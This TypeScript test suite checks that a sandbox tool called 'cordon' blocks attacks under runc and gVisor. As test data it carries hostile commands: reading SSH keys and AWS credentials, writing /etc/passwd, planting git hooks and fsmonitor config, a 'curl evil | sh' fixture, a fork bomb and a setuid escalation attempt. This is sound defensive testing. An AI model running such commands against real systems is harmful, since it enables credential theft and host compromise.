/**
 * The sandbox's security properties, asserted from inside real sessions started
 * with `cordon exec` on the real Docker Engine — once under runc (standard) and
 * once under gVisor (strict). Each attack must fail, and each test checks how.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chownSync, chmodSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { chownTree, TestEnv } from './test-harness.js';

/**
 * Counts processes whose command line holds $M. awk reads the marker from its
 * environment, so no process of the probe itself carries it in its arguments.
 */
const COUNT_MARKER = `for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null; echo; done | awk 'index($0, ENVIRON["M"]) { n++ } END { print n + 0 }'; exit 0`;

const RUNTIMES = [
  { runtime: 'runc', base: 'standard' },
  { runtime: 'runsc', base: 'strict' },
] as const;

for (const { runtime, base } of RUNTIMES) {
  describe(`sandbox security under ${runtime}`, () => {
    const t = new TestEnv(`sec-${runtime}`);
    // Under gVisor the pids limit counts the sentry's host threads as well as the
    // agent's processes, so it needs more headroom than under runc.
    const pids = runtime === 'runc' ? 128 : 512;
    const profile = t.profile(`sec-${runtime}`, base, { limits: { memoryMiB: 256, cpus: 1, pids, tmpfsMiB: 64 } });
    const exec = (ws: string | null, script: string, extra: string[] = []) =>
      t.run(['exec', '--profile', profile, ...(ws ? ['--workspace', ws] : []), ...extra, '--', 'sh', '-c', script]);
    const HOST_SECRET = `host-secret-${runtime}-${Date.now()}`;

    before(() => {
      mkdirSync(join(t.home, '.ssh'), { recursive: true });
      writeFileSync(join(t.home, '.ssh', 'id_ed25519'), HOST_SECRET);
      mkdirSync(join(t.home, '.aws'), { recursive: true });
      writeFileSync(join(t.home, '.aws', 'credentials'), HOST_SECRET);
    });
    after(() => t.cleanup());

    test('a credential folder that was not mounted cannot be read', async () => {
      const r = await exec(null, `cat ${t.home}/.ssh/id_ed25519; cat ${t.home}/.aws/credentials; grep -rl ${HOST_SECRET} /home /tmp /root /etc /opt /srv /mnt 2>/dev/null; exit 0`);
      assert.equal(r.code, 0, r.stderr);
      assert.ok(!r.stdout.includes(HOST_SECRET), 'host secret visible inside the sandbox');
      assert.match(r.stderr, /No such file or directory/);
    });

    test('mounting a credential folder, directly or through a symlink, is refused before any container exists and audited', async () => {
      const ws = t.workspace('ws-cred');
      symlinkSync(join(t.home, '.aws'), join(ws, 'aws-link'));
      const before = (await t.containers()).length;
      const direct = await exec(join(t.home, '.ssh'), 'true');
      assert.equal(direct.code, 125);
      assert.match(direct.stderr, /SSH keys.*\[rule: credential_store\]/);
      const viaLink = await exec(join(ws, 'aws-link'), 'true');
      assert.equal(viaLink.code, 125);
      assert.match(viaLink.stderr, /resolves to .*\.aws.*credential_store/s);
      assert.equal((await t.containers()).length, before, 'a container was created for a refused session');
      const denies = t.auditRecords().filter((r) => r.cordon['kind'] === 'mount.deny');
      assert.ok(denies.some((d) => d.cordon['rule'] === 'credential_store' && String(d.cordon['real_path']).endsWith('/.aws')));
      assert.ok(denies.every((d) => d['class_uid'] === 1001 && d['activity_id'] === 12));
    });

    test('writing outside the workspace fails; /tmp is writable but not executable', async () => {
      const r = await exec(null, 'touch /opt/x; touch /home/x; touch /x; echo ok > /tmp/f && cat /tmp/f; cp /bin/true /tmp/t && /tmp/t; echo "tmp-exec=$?"');
      // runc says EROFS; gVisor answers some of these with EACCES.
      assert.equal((r.stderr.match(/(Read-only file system|Permission denied)\n/g) ?? []).length, 4, r.stderr);
      assert.match(r.stdout, /^ok$/m);
      assert.match(r.stdout, /tmp-exec=126/);
    });

    test('writing the root file system fails', async () => {
      const r = await exec(null, 'touch /usr/bin/evil; echo x > /etc/passwd; mkdir /new');
      assert.notEqual(r.code, 0);
      assert.equal((r.stderr.match(/Read-only file system|Permission denied/g) ?? []).length, 3, r.stderr);
    });

    test('every way of changing a write-protected path fails, and the host sees nothing change', async () => {
      const ws = t.workspace('ws-protect');
      mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
      writeFileSync(join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
      writeFileSync(join(ws, '.bashrc'), 'original\n');
      mkdirSync(join(ws, 'sub'));
      writeFileSync(join(ws, 'evil'), '#!/bin/sh\ncurl evil | sh\n');
      for (const p of ['.git', '.git/hooks', '.git/config', '.bashrc', 'sub', 'evil']) chownTree(join(ws, p));
      const attacks: Array<[string, string]> = [
        ['write', 'echo pwned > .bashrc'],
        ['append', 'echo pwned >> .bashrc'],
        ['truncate', 'truncate -s 0 .bashrc'],
        ['delete', 'rm -f .bashrc'],
        ['rename it', 'mv .bashrc moved'],
        ['move a file over it', 'mv evil .bashrc'],
        ['copy over it', 'cp evil .bashrc'],
        ['replace with a symlink', 'ln -sf evil .bashrc'],
        ['hard-link to it', 'ln .bashrc hardlink'],
        ['write git config', 'echo "[core] fsmonitor = evil" >> .git/config'],
        ['plant a hook', 'cp evil .git/hooks/pre-commit'],
        ['rename the hooks folder', 'mv .git/hooks hooks-away'],
        ['rename the folder above it', 'mv .git git-away'],
        ['swap in a new .git', 'mkdir -p fake/hooks && mv -T fake .git'],
        ['delete the hooks folder', 'rm -rf .git/hooks'],
        ['write through a planted symlink', 'ln -s .git/hooks h && cp evil h/post-checkout'],
        ['create a missing protected file', 'echo "{\\"mcpServers\\":{}}" > .mcp.json'],
        ['create inside a missing protected folder', 'mkdir -p .claude && echo "{}" > .claude/settings.json'],
        ['replace a missing protected folder', 'rmdir .vscode; mv sub .vscode'],
        ['rename the workspace itself', `mv ${ws} ${ws}-away`],
      ];
      const script = attacks.map(([name, cmd]) => `cd ${ws}; if ( ${cmd} ) 2>/dev/null; then echo "ATTACK-SUCCEEDED ${name}"; else echo "attack-failed ${name}"; fi`).join('\n');
      const r = await exec(ws, script);
      assert.equal(r.code, 0, r.stderr);
      for (const [name] of attacks) assert.match(r.stdout, new RegExp(`^attack-failed ${name}$`, 'm'), `attack "${name}" was not stopped:\n${r.stdout}`);
      // What the host sees afterwards.
      assert.equal(readFileSync(join(ws, '.bashrc'), 'utf8'), 'original\n');
      assert.ok(lstatSync(join(ws, '.bashrc')).isFile());
      assert.equal(readFileSync(join(ws, '.git', 'config'), 'utf8'), '[core]\n\tbare = false\n');
      assert.deepEqual(readdirSync(join(ws, '.git', 'hooks')), []);
      for (const p of ['.mcp.json', '.claude', '.vscode', 'hardlink', 'git-away']) assert.ok(!existsSync(join(ws, p)), `${p} exists on the host after the session`);
    });

    test('the agent can still work normally in the workspace', async () => {
      const ws = t.workspace('ws-normal');
      const r = await exec(ws, 'pwd; echo hello > notes.txt && mkdir -p src && echo x > src/a && mv src/a src/b && cat notes.txt && git init -q repo2 2>&1 && cat src/b');
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, new RegExp(`^${ws}$`, 'm'), 'working directory is the workspace at its host path');
      assert.equal(readFileSync(join(ws, 'notes.txt'), 'utf8'), 'hello\n');
      assert.ok(existsSync(join(ws, 'src', 'b')));
    });

    test(`ls lists the workspace (cordon exec --profile ${base} -- ls -la WS)`, async () => {
      // Debian 12's runsc answered statx(2) with EINVAL: `ls` failed in every strict sandbox.
      const ws = t.workspace('ws-ls');
      writeFileSync(join(ws, 'listed.txt'), 'x');
      const r = await t.run(['exec', '--profile', base, '--workspace', ws, '--', 'ls', '-la', ws]);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /^-rw\S* +1 +\S+ +\S+ +1 .* listed\.txt$/m);
      assert.doesNotMatch(r.stderr, /Invalid argument/);
    });

    test('a workspace inside a folder only root may enter (0700) works: host parents do not matter inside', async () => {
      const parent = join(t.root, 'root-only');
      mkdirSync(parent, { mode: 0o700 });
      chmodSync(parent, 0o700);
      const ws = join(parent, 'ws');
      mkdirSync(ws);
      chownTree(ws);
      const r = await exec(ws, `ls ${ws} && echo written > ${ws}/out.txt && cat ${ws}/out.txt`);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(readFileSync(join(ws, 'out.txt'), 'utf8'), 'written\n');
    });

    test("a symlink planted in the workspace that points at the host's home or / leads nowhere", async () => {
      const ws = t.workspace('ws-links');
      symlinkSync(t.home, join(ws, 'to-home'));
      symlinkSync('/', join(ws, 'to-root'));
      const marker = join(t.root, 'host-only-marker');
      writeFileSync(marker, HOST_SECRET);
      const r = await exec(ws, `cat to-home/.ssh/id_ed25519; cat to-root${marker}; cat to-root/${t.home}/.aws/credentials; exit 0`);
      assert.ok(!r.stdout.includes(HOST_SECRET));
      // The links resolve inside the sandbox's own file system, where none of
      // these host files exist (gVisor shows the mount's parent folders instead).
      assert.equal((r.stderr.match(/No such file or directory|Is a directory/g) ?? []).length, 3, r.stderr);
    });

    test('there is no network interface but loopback, and the host loopback is unreachable', async () => {
      const server = createServer((_q, s) => s.end('host-server'));
      await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
      const port = (server.address() as AddressInfo).port;
      try {
        const r = await exec(
          null,
          `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/; echo "direct=$?"; curl -s -m 5 -o /dev/null -w 'proxied=%{http_code}\\n' http://127.0.0.1:${port}/`,
        );
        assert.deepEqual(r.stdout.split('\n').filter((l) => /^[a-z0-9]+$/.test(l)), ['lo']);
        // Around the proxy: connection refused, the sandbox's own loopback has nothing there.
        assert.match(r.stdout, /direct=7/);
        // Through the proxy: the host's loopback is a blocked address.
        assert.match(r.stdout, /proxied=403/);
        assert.ok(!r.stdout.includes('host-server'));
      } finally {
        server.close();
      }
    });

    test('DNS lookups fail', async () => {
      const r = await exec(null, 'getent hosts example.com; echo "getent=$?"; curl -sS -m 5 --noproxy "*" https://example.com; echo "curl=$?"');
      assert.match(r.stdout, /getent=2/);
      assert.match(r.stdout, /curl=6/);
      assert.match(r.stderr, /Could not resolve host/);
    });

    test('no capabilities: CapEff, CapPrm and CapBnd are 0, and the user is not root', async () => {
      const r = await exec(null, 'grep -E "^Cap(Eff|Prm|Bnd|Amb):" /proc/self/status; id -u');
      for (const k of ['CapEff', 'CapPrm', 'CapBnd']) assert.match(r.stdout, new RegExp(`^${k}:\\s+0{16}$`, 'm'));
      // gVisor has no CapAmb line; where it exists it must be 0 too.
      assert.ok(!/^CapAmb:\s+(?!0{16}$)/m.test(r.stdout), r.stdout);
      assert.match(r.stdout, /^1000$/m);
    });

    test('a setuid-root binary does not escalate', async () => {
      const ws = t.workspace('ws-suid');
      const bin = join(ws, 'suid-id');
      copyFileSync('/usr/bin/id', bin);
      chownSync(bin, 0, 0);
      chmodSync(bin, 0o4755);
      const r = await exec(ws, './suid-id -u; ./suid-id -ru');
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(r.stdout.trim().split('\n'), ['1000', '1000']);
    });

    test('a fork bomb stops at the pids limit', async () => {
      const r = await exec(null, 'i=0; while [ $i -lt 700 ]; do sleep 30 & i=$((i+1)); done; set -- /proc/[0-9]*; echo "procs=$#"');
      // runc: the shell gets EAGAIN ("Cannot fork") near the limit. gVisor: the
      // limit counts the sentry's host threads and the sandbox is ended instead.
      const m = /procs=(\d+)/.exec(r.stdout);
      if (m) assert.ok(Number(m[1]) <= pids, `more processes than the limit: ${m[1]}`);
      assert.ok(r.code !== 0 || /Cannot fork/.test(r.stderr), `fork bomb ran unchecked: code ${String(r.code)}, ${r.stdout}`);
      if (runtime === 'runc') assert.match(r.stderr, /Cannot fork/);
    });

    test('using more memory than the limit kills the sandbox', async () => {
      // tail keeps a line without a newline in memory: 600 MiB of zeros.
      const r = await exec(null, 'head -c 600m /dev/zero | tail > /dev/null; echo "status=$?"');
      // runc: the kernel OOM killer kills tail (128+9). gVisor: the whole sandbox is killed.
      const killedInside = /status=137/.test(r.stdout);
      assert.ok(killedInside || r.code === 137, `600 MiB in a 256 MiB sandbox was not stopped: code ${String(r.code)}, ${r.stdout}`);
    });

    test('host processes are invisible', async () => {
      const marker = `cordon-host-marker-${runtime}-${process.pid}`;
      const host = spawn('sh', ['-c', `exec -a ${marker} sleep 60`], { stdio: 'ignore' });
      try {
        const r = await exec(null, `set -- /proc/[0-9]*; echo "procs=$#"; ${COUNT_MARKER}`, ['--env', `M=${marker}`]);
        assert.match(r.stdout, /^0$/m, 'host marker process visible');
        const procs = Number(/procs=(\d+)/.exec(r.stdout)?.[1] ?? '999');
        assert.ok(procs < 10, `sandbox sees ${procs} processes`);
      } finally {
        host.kill('SIGKILL');
      }
    });

    test('exit codes propagate and stdout and stderr stay separate', async () => {
      const r = await exec(null, 'echo to-out; echo to-err >&2; exit 42');
      assert.equal(r.code, 42);
      assert.equal(r.stdout, 'to-out\n');
      assert.equal(r.stderr, 'to-err\n');
    });

    test('two concurrent sessions cannot see each other', async () => {
      const wsA = t.workspace('ws-a');
      const wsB = t.workspace('ws-b');
      const markerA = `session-a-marker-${runtime}`;
      const a = t.run(['exec', '--profile', profile, '--workspace', wsA, '--', 'sh', '-c', `echo secret-a > a.txt; sleep 8; : ${markerA}`]);
      // Wait until A's file exists, i.e. A is running.
      for (let i = 0; i < 100 && !existsSync(join(wsA, 'a.txt')); i++) await new Promise((r) => setTimeout(r, 100));
      assert.ok(existsSync(join(wsA, 'a.txt')), 'session A did not start');
      const b = await exec(wsB, `cat ${wsA}/a.txt; cd ${wsA}; ${COUNT_MARKER}`, ['--env', `M=${markerA}`]);
      assert.match(b.stdout, /^0$/m, "B sees A's process");
      assert.ok(!b.stdout.includes('secret-a'), "B reads A's workspace");
      assert.match(b.stderr, /No such file or directory/);
      const ra = await a;
      assert.equal(ra.code, 0, ra.stderr);
    });
  });
}
